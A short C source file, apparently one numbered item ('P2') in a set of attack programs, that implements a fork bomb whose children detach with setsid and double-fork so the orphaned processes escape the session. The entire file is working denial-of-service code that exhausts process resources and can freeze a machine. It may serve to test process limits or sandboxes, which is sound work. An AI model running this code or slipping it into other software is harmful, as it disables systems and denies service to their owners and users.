/* P2: a fork bomb whose children leave the session and are orphaned by a second fork. */
#include "attack.h"

int main(void) {
    for (;;) {
        pid_t child = fork();
        if (child == 0) {
            setsid();
            if (fork() > 0) {
                _exit(0);
            }
        } else if (child > 0) {
            waitpid(child, NULL, 0);
        }
    }
}
